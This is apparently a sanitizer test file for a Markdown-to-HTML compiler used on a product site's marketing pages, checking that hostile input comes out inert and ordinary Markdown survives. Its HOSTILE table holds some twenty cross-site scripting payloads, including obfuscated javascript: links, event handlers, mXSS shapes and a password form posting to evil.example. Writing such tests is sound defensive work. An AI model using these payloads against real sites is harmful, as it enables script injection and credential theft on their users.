import { readFileSync } from 'node:fs';
import path from 'node:path';
import { compilePage, markdownToSafeHtml } from '../src/content/compile';

// Whoever edits the Markdown content must not be able to run script on the web origin: the compiled HTML goes into
// the prerendered pages and through dangerouslySetInnerHTML. Each output is parsed by the DOM (jsdom here) and
// checked for anything that could run, load or restyle: an element outside Markdown's own, an event handler, a
// style, a URL that is not http(s), mailto or relative.

const MARKDOWN_ELEMENTS = new Set(
  'h1 h2 h3 h4 h5 h6 p br hr blockquote ul ol li strong em del code pre a img table thead tbody tr th td'.split(' '),
);

/** Every reason the HTML could do more than show text, links and pictures. */
function activeParts(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const problems: string[] = [];
  for (const element of Array.from(template.content.querySelectorAll('*'))) {
    const tag = element.tagName.toLowerCase();
    if (!MARKDOWN_ELEMENTS.has(tag)) problems.push(`<${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') problems.push(`${tag}[${name}]`);
      if ((name === 'href' || name === 'src') && !/^(https?:|mailto:|[/#.]|[\w-]+(\.|\/|$))/i.test(attribute.value)) {
        problems.push(`${tag}[${name}=${attribute.value}]`);
      }
    }
  }
  return problems;
}

const HOSTILE: Record<string, string> = {
  'script tag': '<script>alert(document.cookie)</script>',
  'script split over Markdown': 'Text\n\n<script src="https://evil.example/x.js"></script>\n\nMore',
  'image onerror': '<img src=x onerror="alert(1)">',
  'svg onload': '<svg onload=alert(1)><circle r=1 /></svg>',
  'event handler on a paragraph': '<p onclick="alert(1)" onmouseover=alert(2)>click</p>',
  'javascript: Markdown link': '[click me](javascript:alert(1))',
  'javascript: HTML link, mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript: link behind entities': '<a href="&#106;avascript&#58;alert(1)">x</a>',
  'javascript: with a tab inside': '<a href="java\tscript:alert(1)">x</a>',
  'data: HTML link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'vbscript: image': '![x](vbscript:msgbox(1))',
  iframe: '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  'style element with expression':
    '<style>p { width: expression(alert(1)); background: url(javascript:alert(1)) }</style>',
  'style attribute with expression': '<p style="width: expression(alert(1))">styled</p>',
  'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'form and input': '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  'meta refresh and base':
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  'link import': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'template and noscript':
    '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  'math and mXSS shapes': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'protocol-relative image': '![x](//evil.example/pixel.gif)',
};

describe('hostile Markdown comes out inert', () => {
  it.each(Object.entries(HOSTILE))('%s', (_name, markdown) => {
    const html = markdownToSafeHtml(markdown);
    expect(activeParts(html)).toEqual([]);
    expect(html).not.toMatch(/alert\(|evil\.example|javascript:|expression\(/i);
  });

  it('a content file with raw HTML in its body is compiled without it', () => {
    const legal = readFileSync(path.join(__dirname, '..', 'content', 'terms.md'), 'utf8');
    const page = compilePage('terms.md', `${legal}\n\n<img src=x onerror="alert(1)"><script>alert(2)</script>\n`);
    expect(activeParts(page.bodyHtml)).toEqual([]);
    expect(page.bodyHtml).not.toMatch(/alert\(/);
  });
});

describe('ordinary content survives', () => {
  it('headings, emphasis, lists, links, images, quotes, code and tables', () => {
    const html = markdownToSafeHtml(
      [
        '## Why sellers use it',
        '',
        'Photos in **minutes**, not *days*, and ~~never~~ a studio.',
        '',
        '- first',
        '- second with [a link](https://example.com/guide "The guide")',
        '',
        '3. third',
        '',
        'Write to [support](mailto:support@productgen.example) or see [pricing](/pricing).',
        '',
        '![A mug on a table](/mfe/marketing/0.1.0/demo/mug.webp)',
        '',
        '> A quote',
        '',
        '```js',
        'const a = 1;',
        '```',
        '',
        '| Plan | Price |',
        '| :--- | ----: |',
        '| Pro | $5 |',
      ].join('\n'),
    );
    expect(activeParts(html)).toEqual([]);
    expect(html).toContain('<h2>Why sellers use it</h2>');
    expect(html).toContain('<strong>minutes</strong>');
    expect(html).toContain('<em>days</em>');
    expect(html).toContain('<del>never</del>');
    expect(html).toContain('<li>first</li>');
    expect(html).toContain('<a href="https://example.com/guide" title="The guide">a link</a>');
    expect(html).toContain('<ol start="3">');
    expect(html).toContain('<a href="mailto:support@productgen.example">support</a>');
    expect(html).toContain('<a href="/pricing">pricing</a>');
    expect(html).toContain('<img src="/mfe/marketing/0.1.0/demo/mug.webp" alt="A mug on a table" />');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<code class="language-js">const a = 1;');
    expect(html).toMatch(/<th align="left">Plan<\/th>\s*<th align="right">Price<\/th>/);
  });
});
